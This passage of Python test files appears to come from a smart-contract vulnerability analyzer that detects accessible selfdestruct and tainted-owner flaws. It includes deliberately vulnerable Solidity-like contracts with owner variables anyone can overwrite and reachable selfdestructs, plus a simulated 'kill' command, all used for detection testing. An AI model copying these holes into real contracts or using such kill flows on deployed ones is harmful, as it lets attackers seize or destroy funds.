    def test_if_else(self):
        source = """
contract S {
    function pick(uint256 c) public returns (uint256) {
        if (c > 10) { return 1; } else { return 2; }
    }
}
"""
        chain, contract, address = deploy(source)
        assert call_value(chain, contract, address, "pick", 11) == 1
        assert call_value(chain, contract, address, "pick", 10) == 2

    def test_while_loop(self):
        source = """
contract S {
    function sum(uint256 n) public returns (uint256) {
        uint256 total = 0;
        uint256 i = 0;
        while (i < n) {
            i = i + 1;
            total = total + i;
        }
        return total;
    }
}
"""
        chain, contract, address = deploy(source)
        assert call_value(chain, contract, address, "sum", 10) == 55
        assert call_value(chain, contract, address, "sum", 0) == 0

    def test_locals_are_per_call(self):
        source = """
contract S {
    function f(uint256 a) public returns (uint256) {
        uint256 x = a + 1;
        return x;
    }
}
"""
        chain, contract, address = deploy(source)
        assert call_value(chain, contract, address, "f", 1) == 2
        assert call_value(chain, contract, address, "f", 10) == 11

    def test_require_reverts(self):
        source = """
contract S {
    uint256 hits;
    function gated(uint256 v) public { require(v == 7); hits += 1; }
    function count() public returns (uint256) { return hits; }
}
"""
        chain, contract, address = deploy(source)
        bad = chain.transact(USER, address, contract.calldata("gated", 6))
        assert not bad.success
        good = chain.transact(USER, address, contract.calldata("gated", 7))
        assert good.success
        assert call_value(chain, contract, address, "count") == 1


class TestMappings:
    def test_mapping_read_write(self):
        source = """
contract M {
    mapping(address => uint256) data;
    function put(address k, uint256 v) public { data[k] = v; }
    function get(address k) public returns (uint256) { return data[k]; }
}
"""
        chain, contract, address = deploy(source)
        chain.transact(USER, address, contract.calldata("put", 0x123, 55))
        assert call_value(chain, contract, address, "get", 0x123) == 55
        assert call_value(chain, contract, address, "get", 0x999) == 0

    def test_nested_mapping(self):
        source = """
contract M {
    mapping(address => mapping(address => uint256)) allowed;
    function approve(address a, address b, uint256 v) public { allowed[a][b] = v; }
    function get(address a, address b) public returns (uint256) { return allowed[a][b]; }
}
"""
        chain, contract, address = deploy(source)
        chain.transact(USER, address, contract.calldata("approve", 1, 2, 9))
        assert call_value(chain, contract, address, "get", 1, 2) == 9
        assert call_value(chain, contract, address, "get", 2, 1) == 0

    def test_mapping_keyed_by_sender(self):
        source = """
contract M {
    mapping(address => uint256) mine;
    function set(uint256 v) public { mine[msg.sender] = v; }
    function get() public returns (uint256) { return mine[msg.sender]; }
}
"""
        chain, contract, address = deploy(source)
        chain.transact(USER, address, contract.calldata("set", 5))
        chain.transact(OTHER, address, contract.calldata("set", 6))
        assert call_value(chain, contract, address, "get", sender=USER) == 5
        assert call_value(chain, contract, address, "get", sender=OTHER) == 6

    def test_compound_assign_on_mapping(self):
        source = """
contract M {
    mapping(address => uint256) data;
    function add(address k, uint256 v) public { data[k] += v; }
    function get(address k) public returns (uint256) { return data[k]; }
}
"""
        chain, contract, address = deploy(source)
        chain.transact(USER, address, contract.calldata("add", 7, 3))
        chain.transact(USER, address, contract.calldata("add", 7, 4))
        assert call_value(chain, contract, address, "get", 7) == 7

    def test_mapping_slots_match_solidity_layout(self):
        from repro.evm.hashing import mapping_slot

        source = """
contract M {
    uint256 pad;
    mapping(address => uint256) data;
    function put(address k, uint256 v) public { data[k] = v; }
}
"""
        chain, contract, address = deploy(source)
        chain.transact(USER, address, contract.calldata("put", 0xABC, 31337))
        assert chain.state.get_storage(address, mapping_slot(0xABC, 1)) == 31337


class TestModifiersAndCalls:
    def test_modifier_guards(self):
        source = """
contract G {
    address owner;
    modifier onlyOwner() { require(msg.sender == owner); _; }
    constructor() { owner = msg.sender; }
    function privileged() public onlyOwner returns (uint256) { return 1; }
}
"""
        chain, contract, address = deploy(source)
        denied = chain.call(USER, address, contract.calldata("privileged"))
        assert not denied.success
        allowed = chain.call(OWNER, address, contract.calldata("privileged"))
        assert allowed.success

    def test_modifier_with_argument(self):
        source = """
contract G {
    modifier atLeast(uint256 n, uint256 v) { require(v >= n); _; }
    function f(uint256 v) public atLeast(10, v) returns (uint256) { return v; }
}
"""
        chain, contract, address = deploy(source)
        assert call_value(chain, contract, address, "f", 15) == 15
        denied = chain.call(USER, address, contract.calldata("f", 5))
        assert not denied.success

    def test_modifier_statements_after_placeholder(self):
        source = """
contract G {
    uint256 count;
    modifier counted() { _; count += 1; }
    function f() public counted { }
    function get() public returns (uint256) { return count; }
}
"""
        chain, contract, address = deploy(source)
        chain.transact(USER, address, contract.calldata("f"))
        assert call_value(chain, contract, address, "get") == 1

    def test_internal_calls_nested(self):
        source = """
contract I {
    function double(uint256 x) internal returns (uint256) { return x + x; }
    function quad(uint256 x) internal returns (uint256) { return double(double(x)); }
    function run(uint256 x) public returns (uint256) { return quad(x) + 1; }
}
"""
        chain, contract, address = deploy(source)
        assert call_value(chain, contract, address, "run", 3) == 13

    def test_internal_call_multiple_args_order(self):
        source = """
contract I {
    function sub(uint256 a, uint256 b) internal returns (uint256) { return a - b; }
    function run() public returns (uint256) { return sub(10, 4); }
}
"""
        chain, contract, address = deploy(source)
        assert call_value(chain, contract, address, "run") == 6

    def test_external_call_between_contracts(self):
        chain = Blockchain()
        chain.fund(OWNER, 10**18)
        target_source = """
contract Target {
    uint256 stored;
    function set(uint256 v) public { stored = v; }
    function get() public returns (uint256) { return stored; }
}
"""
        target = compile_source(target_source)
        target_address = chain.deploy(OWNER, target.init_with_args()).contract_address
        caller_source = """
contract Caller {
    function poke(address t, uint256 v) public returns (bool) {
        return call(t, "set(uint256)", v);
    }
}
"""
        caller = compile_source(caller_source)
        caller_address = chain.deploy(OWNER, caller.init_with_args()).contract_address
        receipt = chain.transact(
            OWNER, caller_address, caller.calldata("poke", target_address, 88)
        )
        assert receipt.success
        assert chain.state.get_storage(target_address, 0) == 88


class TestConstructorsAndBuiltins:
    def test_constructor_args(self):
        source = """
contract C {
    address boss;
    uint256 cap;
    constructor(address b, uint256 c) { boss = b; cap = c; }
    function getCap() public returns (uint256) { return cap; }
}
"""
        chain, contract, address = deploy(source, 0x777, 424242)
        assert call_value(chain, contract, address, "getCap") == 424242
        assert chain.state.get_storage(address, 0) == 0x777

    def test_constructor_sets_sender_as_owner(self):
        source = """
contract C {
    address owner;
    constructor() { owner = msg.sender; }
}
"""
        chain, contract, address = deploy(source)
        assert chain.state.get_storage(address, 0) == OWNER

    def test_selfdestruct_builtin(self):
        source = """
contract C {
    function die(address to) public { selfdestruct(to); }
}
"""
        chain, contract, address = deploy(source, value=500)
        receipt = chain.transact(USER, address, contract.calldata("die", 0xF00))
        assert receipt.success
        assert chain.state.is_destroyed(address)
        assert chain.state.get_balance(0xF00) == 500

    def test_transfer_builtin(self):
        source = """
contract C {
    function pay(address to, uint256 amount) public { transfer(to, amount); }
}
"""
        chain, contract, address = deploy(source, value=1000)
        chain.transact(USER, address, contract.calldata("pay", 0xF01, 300))
        assert chain.state.get_balance(0xF01) == 300
        assert chain.state.get_balance(address) == 700

    def test_balance_builtin(self):
        source = """
contract C {
    function myBalance() public returns (uint256) { return balance(this); }
}
"""
        chain, contract, address = deploy(source, value=900)
        assert call_value(chain, contract, address, "myBalance") == 900

    def test_sha3_builtin(self):
        from repro.evm.hashing import keccak_int

        source = """
contract C {
    function h(uint256 x) public returns (uint256) { return sha3(x); }
}
"""
        chain, contract, address = deploy(source)
        expected = keccak_int((5).to_bytes(32, "big"))
        assert call_value(chain, contract, address, "h", 5) == expected

    def test_msg_value(self):
        source = """
contract C {
    uint256 got;
    function take() public { got = msg.value; }
    function get() public returns (uint256) { return got; }
}
"""
        chain, contract, address = deploy(source)
        chain.transact(USER, address, contract.calldata("take"), value=123)
        assert call_value(chain, contract, address, "get") == 123

    def test_fallback_accepts_plain_transfer(self):
        source = "contract C { uint256 x; function f() public { x = 1; } }"
        chain, contract, address = deploy(source)
        receipt = chain.transact(USER, address, b"", value=42)
        assert receipt.success
        assert chain.state.get_balance(address) == 42

    def test_unknown_selector_stops(self):
        source = "contract C { function f() public { } }"
        chain, contract, address = deploy(source)
        receipt = chain.transact(USER, address, b"\xde\xad\xbe\xef")
        assert receipt.success  # fallback STOP


class TestCompiledContractApi:
    def test_calldata_validates_arity(self, victim_contract):
        with pytest.raises(ValueError):
            victim_contract.calldata("referAdmin")

    def test_calldata_rejects_internal(self):
        contract = compile_source(
            "contract C { function f() internal {} function g() public {} }"
        )
        with pytest.raises(ValueError):
            contract.calldata("f")

    def test_init_with_args_validates_arity(self, victim_contract):
        with pytest.raises(ValueError):
            victim_contract.init_with_args(1)

    def test_compile_source_multi_returns_dict(self):
        compiled = compile_source("contract A {} contract B {}")
        assert set(compiled) == {"A", "B"}

    def test_compile_source_named_pick(self):
        compiled = compile_source("contract A {} contract B {}", "B")
        assert compiled.name == "B"
