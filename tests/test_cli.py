"""Command-line interface."""

import json

import pytest

from repro.cli import main
from tests.conftest import OPEN_KILL_SOURCE, SAFE_OWNED_SOURCE, VICTIM_SOURCE


@pytest.fixture
def victim_file(tmp_path):
    path = tmp_path / "victim.msol"
    path.write_text(VICTIM_SOURCE)
    return str(path)


@pytest.fixture
def safe_file(tmp_path):
    path = tmp_path / "safe.msol"
    path.write_text(SAFE_OWNED_SOURCE)
    return str(path)


class TestAnalyze:
    def test_vulnerable_exits_1(self, victim_file, capsys):
        assert main(["analyze", "--source", victim_file]) == 1
        output = capsys.readouterr().out
        assert "accessible-selfdestruct" in output

    def test_safe_exits_0(self, safe_file, capsys):
        assert main(["analyze", "--source", safe_file]) == 0
        assert "no vulnerabilities" in capsys.readouterr().out

    def test_ablation_flag(self, safe_file, capsys):
        assert main(["analyze", "--source", safe_file, "--no-guards"]) == 1

    def test_hex_input(self, tmp_path, victim_contract, capsys):
        hex_file = tmp_path / "code.hex"
        hex_file.write_text("0x" + victim_contract.runtime.hex())
        assert main(["analyze", "--hex", str(hex_file)]) == 1

    def test_compare_flag(self, victim_file, capsys):
        main(["analyze", "--source", victim_file, "--compare"])
        assert "baselines" in capsys.readouterr().out

    def test_missing_input_errors(self):
        with pytest.raises(SystemExit):
            main(["analyze"])

    def test_profile_prints_stage_breakdown(self, victim_file, capsys):
        assert main(["analyze", "--source", victim_file, "--profile"]) == 1
        output = capsys.readouterr().out
        assert "pipeline profile:" in output
        for stage in ("lift", "facts", "values", "storage", "guards", "ordering", "taint", "detect"):
            assert stage in output
        assert "cache" in output

    def test_sweep_profile_prints_aggregate(self, capsys):
        assert main(["sweep", "--size", "6", "--seed", "3", "--profile"]) == 0
        output = capsys.readouterr().out
        assert "pipeline profile:" in output
        assert "lift" in output and "taint" in output


class TestCompileDisasmDecompile:
    def test_compile_prints_hex(self, safe_file, capsys):
        assert main(["compile", safe_file]) == 0
        output = capsys.readouterr().out.strip()
        bytes.fromhex(output)  # valid hex

    def test_disasm(self, safe_file, capsys):
        assert main(["disasm", "--source", safe_file]) == 0
        assert "JUMPI" in capsys.readouterr().out

    def test_decompile(self, safe_file, capsys):
        assert main(["decompile", "--source", safe_file]) == 0
        assert "block" in capsys.readouterr().out


class TestAbi:
    def test_abi_lists_selectors_and_events(self, tmp_path, capsys):
        from repro.cli import main

        path = tmp_path / "c.msol"
        path.write_text(
            "contract C { event E(uint256 v);"
            " function kill() public { selfdestruct(msg.sender); } }"
        )
        assert main(["abi", str(path)]) == 0
        output = capsys.readouterr().out
        assert "kill()" in output
        assert "E(uint256)" in output
        assert "0x" in output


class TestDecompileDot:
    def test_dot_output(self, safe_file, capsys):
        from repro.cli import main

        assert main(["decompile", "--source", safe_file, "--dot"]) == 0
        output = capsys.readouterr().out
        assert output.startswith("digraph")


class TestCorpus:
    def test_corpus_writes_files(self, tmp_path, capsys):
        out_dir = tmp_path / "corpus"
        assert main(["corpus", "--size", "5", "--seed", "1", "--out", str(out_dir)]) == 0
        index = json.loads((out_dir / "index.json").read_text())
        assert len(index) == 5
        assert all("template" in entry for entry in index)
        assert len(list(out_dir.glob("*.msol"))) == 5


class TestKill:
    def test_kill_destroys_vulnerable(self, tmp_path, capsys):
        path = tmp_path / "open.msol"
        path.write_text(OPEN_KILL_SOURCE)
        assert main(["kill", str(path), "--value", "100"]) == 1
        assert "DESTROYED" in capsys.readouterr().out

    def test_kill_safe_contract_survives(self, safe_file, capsys):
        assert main(["kill", safe_file]) == 0
        assert "not destroyed" in capsys.readouterr().out


class TestEngineFlag:
    def test_datalog_engine_flag(self, victim_file, capsys):
        from repro.cli import main

        assert main(["analyze", "--source", victim_file, "--engine", "datalog"]) == 1
        assert "accessible-selfdestruct" in capsys.readouterr().out

    def test_columnar_engine_flag(self, victim_file, capsys):
        from repro.cli import main

        assert (
            main(
                ["analyze", "--source", victim_file, "--engine", "datalog-columnar"]
            )
            == 1
        )
        assert "accessible-selfdestruct" in capsys.readouterr().out

    def test_help_enumerates_engine_choices(self, capsys):
        import pytest

        from repro.cli import main
        from repro.core.pipeline import ENGINE_CHOICES

        for command in ("analyze", "sweep"):
            with pytest.raises(SystemExit) as excinfo:
                main([command, "--help"])
            assert excinfo.value.code == 0
            # argparse re-wraps help text; compare on collapsed whitespace.
            output = " ".join(capsys.readouterr().out.split())
            for name, description in ENGINE_CHOICES.items():
                assert name in output
                assert description in output

    def test_unknown_engine_fails_naming_valid_set(self, victim_file, capsys):
        import pytest

        from repro.cli import main

        with pytest.raises(SystemExit) as excinfo:
            main(["analyze", "--source", victim_file, "--engine", "sqlite"])
        assert excinfo.value.code == 2
        errors = capsys.readouterr().err
        assert "invalid choice: 'sqlite'" in errors
        for name in ("python", "datalog", "datalog-columnar", "datalog-legacy"):
            assert name in errors

    def test_unknown_engine_config_raises_clear_error(self):
        import pytest

        from repro import api
        from repro.core.pipeline import UnknownEngineError

        with pytest.raises(UnknownEngineError, match="datalog-columnar"):
            api.analyze(b"\x00", api.AnalysisConfig(engine="sqlite"))


class TestLintRules:
    def test_shipped_rules_pass(self, capsys):
        assert main(["lint-rules"]) == 0
        output = capsys.readouterr().out
        assert "0 error(s)" in output

    def test_bad_file_exits_nonzero(self, tmp_path, capsys):
        bad = tmp_path / "bad.dl"
        bad.write_text(
            ".decl Edge(a, b)\n"
            "Path(x) :- Edge(x, y, z).\n"
            "Bad(x, q) :- Edge(x, y).\n"
            "Odd(x) :- Edge(x, y), !Odd(y).\n"
        )
        assert main(["lint-rules", str(bad)]) == 1
        output = capsys.readouterr().out
        assert "arity-mismatch" in output
        assert "unsafe-rule" in output
        assert "negation-in-recursion" in output
        # Diagnostics carry file and line.
        assert "%s:2:" % bad in output

    def test_clean_file_exits_zero(self, tmp_path, capsys):
        good = tmp_path / "good.dl"
        good.write_text("Path(x, y) :- Edge(x, y).\n")
        assert main(["lint-rules", str(good)]) == 0

    def test_warnings_only_exit_zero(self, tmp_path, capsys):
        warned = tmp_path / "warned.dl"
        warned.write_text(".decl Ghost(a)\nPath(x, y) :- Edge(x, y).\n")
        assert main(["lint-rules", str(warned)]) == 0
        assert "unused-relation" in capsys.readouterr().out

    def test_strata_preview(self, capsys):
        assert main(["lint-rules", "--strata"]) == 0
        output = capsys.readouterr().out
        assert "strata for" in output
        assert "TaintedStorage" in output


class TestValueAnalysisFlag:
    def test_flag_changes_probe_verdict(self, tmp_path, capsys):
        probe = tmp_path / "probe.msol"
        probe.write_text(
            """
contract Probe {
    uint256[2] flags;
    address owner;
    constructor() { owner = msg.sender; }
    function set(uint256 choice, uint256 value) public {
        flags[choice == 7] = value;
    }
    function kill() public {
        require(msg.sender == owner);
        selfdestruct(owner);
    }
}
"""
        )
        assert main(["analyze", "--source", str(probe)]) == 1
        capsys.readouterr()
        assert main(["analyze", "--source", str(probe), "--value-analysis"]) == 0
        assert "no vulnerabilities" in capsys.readouterr().out

    def test_profile_prints_precision_counters(self, safe_file, capsys):
        main(["analyze", "--source", safe_file, "--profile"])
        output = capsys.readouterr().out
        assert "precision counters:" in output
        assert "resolved_store_indices" in output

    def test_sweep_accepts_value_analysis(self, capsys):
        assert main(["sweep", "--size", "4", "--seed", "3", "--value-analysis",
                     "--profile"]) == 0
        assert "precision counters:" in capsys.readouterr().out


class TestUnifiedFlags:
    """``analyze`` and ``sweep`` share one parent parser: identical
    spellings for --engine, --value-analysis, --deadline, --profile and
    --json (bare --json = report on stdout, --json FILE = report file)."""

    def test_shared_flags_have_identical_spellings(self):
        from repro.cli import build_parser

        parser = build_parser()
        subparsers = next(
            action
            for action in parser._actions
            if hasattr(action, "choices") and action.choices
        )
        shared = {"--engine", "--value-analysis", "--deadline", "--profile", "--json"}
        for command in ("analyze", "sweep"):
            spellings = {
                option
                for action in subparsers.choices[command]._actions
                for option in action.option_strings
            }
            assert shared <= spellings, command

    def test_analyze_accepts_deadline(self, victim_file):
        assert main(["analyze", "--source", victim_file, "--deadline", "60"]) == 1

    def test_analyze_timeout_alias_still_works(self, victim_file):
        assert main(["analyze", "--source", victim_file, "--timeout", "60"]) == 1

    def test_sweep_accepts_deadline(self, capsys):
        assert main(["sweep", "--size", "4", "--seed", "3", "--deadline", "60"]) == 0

    def test_analyze_json_to_file(self, victim_file, tmp_path, capsys):
        out = tmp_path / "report.json"
        assert main(["analyze", "--source", victim_file, "--json", str(out)]) == 1
        assert "report written" in capsys.readouterr().out
        payload = json.loads(out.read_text())
        assert payload["schema_version"] == 2

    def test_sweep_bare_json_goes_to_stdout(self, capsys):
        assert main(["sweep", "--size", "4", "--seed", "3", "--json"]) == 0
        captured = capsys.readouterr()
        payload = json.loads(captured.out)
        assert payload["total_contracts"] == 4
        # the human summary moved to stderr
        assert "flag rate" in captured.err

    def test_sweep_json_report_is_schema_v2_with_orchestrator(self, tmp_path):
        out = tmp_path / "sweep.json"
        assert main(["sweep", "--size", "4", "--seed", "3", "--jobs", "2",
                     "--json", str(out)]) == 0
        payload = json.loads(out.read_text())
        assert payload["schema_version"] == 2
        assert payload["orchestrator"]["mode"] == "orchestrator"
        assert payload["orchestrator"]["workers"] == 2


class TestSweepOrchestration:
    def test_sweep_jobs_parallel(self, capsys):
        assert main(["sweep", "--size", "6", "--seed", "3", "--jobs", "2",
                     "--profile"]) == 0
        output = capsys.readouterr().out
        assert "orchestrator:" in output
        assert "crashes" in output

    def test_sweep_executor_serial_even_with_jobs(self, capsys):
        assert main(["sweep", "--size", "4", "--seed", "3", "--jobs", "2",
                     "--executor", "serial", "--profile"]) == 0
        assert "mode                         serial" in capsys.readouterr().out

    def test_sweep_resume_flow(self, tmp_path, capsys):
        journal = tmp_path / "sweep.jsonl"
        assert main(["sweep", "--size", "5", "--seed", "3",
                     "--resume", str(journal)]) == 0
        capsys.readouterr()
        # journal now complete: the second run resumes everything
        assert main(["sweep", "--size", "5", "--seed", "3", "--jobs", "2",
                     "--resume", str(journal), "--profile"]) == 0
        output = capsys.readouterr().out
        assert "resumed                      5" in output

    def test_sweep_mp_context_spawn(self, capsys):
        assert main(["sweep", "--size", "4", "--seed", "3", "--jobs", "2",
                     "--mp-context", "spawn"]) == 0
        assert "analyzed 4 contracts" in capsys.readouterr().out
