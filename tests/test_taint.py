"""The composite taint fixpoint: flavors, guard compromise, ablations."""

import pytest

from repro.core.analysis import AnalysisConfig, analyze_bytecode
from repro.core.facts import extract_facts
from repro.core.guards import build_guard_model
from repro.core.storage_model import build_storage_model
from repro.core.taint import TaintAnalysis, TaintOptions
from repro.decompiler import lift
from repro.minisol import compile_source


def taint_for(source, name=None, **options):
    facts = extract_facts(lift(compile_source(source, name).runtime))
    storage = build_storage_model(facts)
    guards = build_guard_model(facts, storage)
    result = TaintAnalysis(facts, storage, guards, TaintOptions(**options)).run()
    return facts, storage, guards, result


class TestSourcesAndFlavors:
    def test_calldata_is_input_tainted(self):
        facts, _, _, taint = taint_for(
            "contract C { uint256 x; function f(uint256 v) public { x = v; } }"
        )
        tainted_sources = {v for v, _ in facts.calldata_defs} & taint.input_tainted
        assert tainted_sources

    def test_storage_roundtrip_yields_storage_flavor(self):
        facts, _, _, taint = taint_for(
            """
contract C {
    uint256 x;
    function set(uint256 v) public { x = v; }
    function get() public returns (uint256) { return x; }
}
"""
        )
        assert 0 in taint.tainted_slots
        loads = [l for l in facts.storage_loads if l.const_slot == 0]
        assert any(l.def_var in taint.storage_tainted for l in loads)

    def test_caller_not_a_source(self):
        facts, _, _, taint = taint_for(
            "contract C { address last; function f() public { last = msg.sender; } }"
        )
        assert 0 not in taint.tainted_slots

    def test_constant_not_tainted(self):
        facts, _, _, taint = taint_for(
            "contract C { uint256 x; function f() public { x = 7; } }"
        )
        assert 0 not in taint.tainted_slots

    def test_calldata_in_guarded_code_not_tainted(self):
        """Guard-2: the attacker's transaction reverts at the guard, so the
        privileged caller's inputs are the only ones reaching the store."""
        facts, _, _, taint = taint_for(
            """
contract C {
    address owner;
    uint256 x;
    constructor() { owner = msg.sender; }
    function f(uint256 v) public { require(msg.sender == owner); x = v; }
}
"""
        )
        assert 1 not in taint.tainted_slots

    def test_storage_taint_passes_guards(self):
        """Guard-1: poisoned state flows through guarded code."""
        facts, _, _, taint = taint_for(
            """
contract C {
    address owner;
    address administrator;
    constructor() { owner = msg.sender; }
    function initAdmin(address a) public { administrator = a; }
    function close() public {
        require(msg.sender == owner);
        selfdestruct(administrator);
    }
}
"""
        )
        beneficiary = facts.selfdestructs[0].uses[0]
        assert beneficiary in taint.storage_tainted
        # But the selfdestruct statement itself stays unreachable.
        assert not taint.is_reachable(facts.selfdestructs[0].ident)


class TestGuardCompromise:
    def test_tainted_owner_compromises_eq_guard(self):
        facts, _, guards, taint = taint_for(
            """
contract C {
    address owner;
    function init(address o) public { owner = o; }
    function kill() public { require(msg.sender == owner); selfdestruct(owner); }
}
"""
        )
        assert taint.compromised_guards  # Uguard-T
        assert taint.is_reachable(facts.selfdestructs[0].ident)

    def test_clean_owner_guard_not_compromised(self):
        facts, _, guards, taint = taint_for(
            """
contract C {
    address owner;
    constructor() { owner = msg.sender; }
    function kill() public { require(msg.sender == owner); selfdestruct(owner); }
}
"""
        )
        assert not taint.compromised_guards
        assert not taint.is_reachable(facts.selfdestructs[0].ident)

    def test_self_registration_makes_mapping_writable(self):
        facts, _, _, taint = taint_for(
            """
contract C {
    mapping(address => bool) members;
    address t;
    constructor() { t = msg.sender; }
    function join() public { members[msg.sender] = true; }
    function retire() public { require(members[msg.sender]); selfdestruct(t); }
}
"""
        )
        assert 0 in taint.writable_mappings
        assert taint.is_reachable(facts.selfdestructs[0].ident)

    def test_guarded_mapping_write_not_writable_when_chain_unbroken(self):
        facts, _, _, taint = taint_for(
            """
contract C {
    address owner;
    mapping(address => bool) admins;
    uint256 x;
    constructor() { owner = msg.sender; admins[msg.sender] = true; }
    function addAdmin(address a) public {
        require(msg.sender == owner);
        admins[a] = true;
    }
    function sensitive(uint256 v) public {
        require(admins[msg.sender]);
        x = v;
    }
}
"""
        )
        assert 1 not in taint.writable_mappings
        assert not taint.compromised_guards

    def test_victim_full_escalation(self, victim_contract):
        facts = extract_facts(lift(victim_contract.runtime))
        storage = build_storage_model(facts)
        guards = build_guard_model(facts, storage)
        taint = TaintAnalysis(facts, storage, guards).run()
        assert taint.writable_mappings == {0, 1}
        assert len(taint.compromised_guards) == len(guards.guards)
        assert 2 in taint.tainted_slots  # owner
        assert taint.is_reachable(facts.selfdestructs[0].ident)


class TestStorageWrite2:
    RAW_WRITE = """
contract C {
    uint256 a;
    address owner;
    constructor() { owner = msg.sender; }
    function poke(uint256 slot, uint256 value) public {
        sha3(slot);
        a = a;
    }
}
"""

    def test_mapping_confined_write_does_not_smear(self, token_contract):
        facts = extract_facts(lift(token_contract.runtime))
        storage = build_storage_model(facts)
        guards = build_guard_model(facts, storage)
        taint = TaintAnalysis(facts, storage, guards).run()
        # balances[to] += value has tainted key AND value, but is confined
        # to the mapping: the owner slot must stay clean.
        owner_slot = 1
        assert owner_slot not in taint.tainted_slots


class TestAblations:
    TAINTED_OWNER = """
contract C {
    address owner;
    function init(address o) public { owner = o; }
    function kill() public { require(msg.sender == owner); selfdestruct(owner); }
}
"""

    def test_no_guard_model_flags_safe_contract(self, safe_contract):
        result = analyze_bytecode(
            safe_contract.runtime, AnalysisConfig(model_guards=False)
        )
        assert result.has("accessible-selfdestruct")

    def test_no_storage_model_loses_composite(self, victim_contract):
        result = analyze_bytecode(
            victim_contract.runtime, AnalysisConfig(model_storage_taint=False)
        )
        assert not result.warnings

    def test_no_storage_keeps_direct_taint(self):
        source = "contract C { function f(address to) public { selfdestruct(to); } }"
        result = analyze_bytecode(
            compile_source(source).runtime, AnalysisConfig(model_storage_taint=False)
        )
        kinds = {w.kind for w in result.warnings}
        assert "tainted-selfdestruct" in kinds

    def test_conservative_storage_smears(self, token_contract):
        result = analyze_bytecode(
            token_contract.runtime, AnalysisConfig(conservative_storage=True)
        )
        assert result.has("tainted-owner-variable")

    def test_default_is_precise_on_token(self, token_contract):
        result = analyze_bytecode(token_contract.runtime)
        assert not result.warnings

    def test_ablations_are_monotone_on_flag_count(self, victim_contract):
        """No-guard modeling can only add warnings; no-storage only remove."""
        default = analyze_bytecode(victim_contract.runtime)
        no_guards = analyze_bytecode(
            victim_contract.runtime, AnalysisConfig(model_guards=False)
        )
        no_storage = analyze_bytecode(
            victim_contract.runtime, AnalysisConfig(model_storage_taint=False)
        )
        assert len(no_guards.warnings) >= len(default.warnings)
        assert len(no_storage.warnings) <= len(default.warnings)


class TestFixpointMechanics:
    def test_iteration_count_recorded(self, victim_contract):
        facts = extract_facts(lift(victim_contract.runtime))
        storage = build_storage_model(facts)
        guards = build_guard_model(facts, storage)
        taint = TaintAnalysis(facts, storage, guards).run()
        assert taint.iterations >= 2  # composite chains need several rounds

    def test_witness_points_to_calldataload(self, tainted_owner_contract):
        facts = extract_facts(lift(tainted_owner_contract.runtime))
        storage = build_storage_model(facts)
        guards = build_guard_model(facts, storage)
        taint = TaintAnalysis(facts, storage, guards).run()
        witness = taint.slot_witness[0]
        stmt = next(s for s in facts.program.statements() if s.ident == witness)
        assert stmt.opcode == "CALLDATALOAD"

    def test_reachability_monotone_with_guards_off(self, victim_contract):
        facts = extract_facts(lift(victim_contract.runtime))
        storage = build_storage_model(facts)
        guards = build_guard_model(facts, storage)
        with_guards = TaintAnalysis(facts, storage, guards).run()
        without = TaintAnalysis(
            facts, storage, guards, TaintOptions(model_guards=False)
        ).run()
        assert with_guards.reachable <= without.reachable


class TestMemoryModeling:
    """§5 bullet 3: memory modeled like variables; memory taint is
    sanitized via guards, much like input taint."""

    def test_input_taint_through_memory_blocked_by_guard(self):
        facts, _, _, taint = taint_for(
            """
contract C {
    address owner;
    uint256 x;
    constructor() { owner = msg.sender; }
    function f(uint256 v) public {
        uint256 cached = v;
        require(msg.sender == owner);
        x = cached;
    }
}
"""
        )
        # The local round-trips through memory, but the store is guarded:
        # the attacker's input never lands in storage.
        assert 1 not in taint.tainted_slots

    def test_input_taint_through_memory_flows_when_unguarded(self):
        facts, _, _, taint = taint_for(
            """
contract C {
    uint256 x;
    function f(uint256 v) public {
        uint256 cached = v + 1;
        x = cached;
    }
}
"""
        )
        assert 0 in taint.tainted_slots

    def test_storage_taint_through_memory_passes_guards(self):
        facts, _, _, taint = taint_for(
            """
contract C {
    address owner;
    address admin;
    constructor() { owner = msg.sender; }
    function seed(address a) public { admin = a; }
    function pay() public {
        address cached = admin;
        require(msg.sender == owner);
        selfdestruct(cached);
    }
}
"""
        )
        beneficiary = facts.selfdestructs[0].uses[0]
        assert beneficiary in taint.storage_tainted


class TestFuzzRobustness:
    def test_random_bytecode_never_crashes_analysis(self):
        import random as _random

        from repro.core import analyze_bytecode

        rng = _random.Random(0xF022)
        for _ in range(40):
            blob = bytes(rng.randrange(256) for _ in range(rng.randrange(1, 400)))
            result = analyze_bytecode(blob)
            assert result.error is None or result.error.startswith("lift-error")
