"""The ``repro.api`` public surface and its deprecation shims.

``repro.api`` is the one supported import point; the historical deep
imports (``repro.core.analysis.analyze_bytecode``,
``repro.core.batch.analyze_many`` / ``analyze_battery``) must keep
working — same results — while warning exactly once per process.
"""

import warnings

import pytest

from repro import api
from repro._compat import reset_deprecation_registry
from repro.corpus import generate_corpus


@pytest.fixture(scope="module")
def corpus():
    return generate_corpus(8, seed=7)


@pytest.fixture(scope="module")
def bytecodes(corpus):
    return [contract.runtime for contract in corpus]


class TestSurface:
    def test_all_names_resolve(self):
        for name in api.__all__:
            assert getattr(api, name) is not None, name

    def test_expected_surface(self):
        assert {
            "analyze",
            "sweep",
            "battery",
            "AnalysisConfig",
            "AnalysisResult",
            "ArtifactCache",
            "BatchEntry",
            "BatchSummary",
            "ContractReport",
            "EthainterAnalysis",
            "FaultPlan",
            "Finding",
            "OrchestratorOptions",
            "OrchestratorStats",
            "SweepReport",
            "VULNERABILITY_KINDS",
            "Warning",
        } <= set(api.__all__)

    def test_top_level_package_exposes_api(self):
        import repro

        assert repro.api is api


class TestAnalyze:
    def test_analyze_matches_class_facade(self, bytecodes):
        direct = api.EthainterAnalysis().analyze(bytecodes[0])
        convenient = api.analyze(bytecodes[0])
        assert {w.kind for w in convenient.warnings} == {
            w.kind for w in direct.warnings
        }

    def test_analyze_honors_config(self, bytecodes):
        loose = api.analyze(bytecodes[0], api.AnalysisConfig(model_guards=False))
        strict = api.analyze(bytecodes[0])
        assert len(loose.warnings) >= len(strict.warnings)

    def test_analyze_shares_cache(self, bytecodes):
        cache = api.ArtifactCache(64)
        api.analyze(bytecodes[0], cache=cache)
        again = api.analyze(bytecodes[0], cache=cache)
        assert again.cache_hits > 0


class TestSweepAndBattery:
    def test_sweep_returns_ordered_entries(self, bytecodes):
        summary = api.sweep(bytecodes)
        assert [entry.index for entry in summary.entries] == list(
            range(len(bytecodes))
        )
        assert summary.orchestrator["mode"] == "serial"

    def test_sweep_matches_per_contract_analyze(self, bytecodes):
        summary = api.sweep(bytecodes)
        for bytecode, entry in zip(bytecodes, summary.entries):
            direct = api.analyze(bytecode)
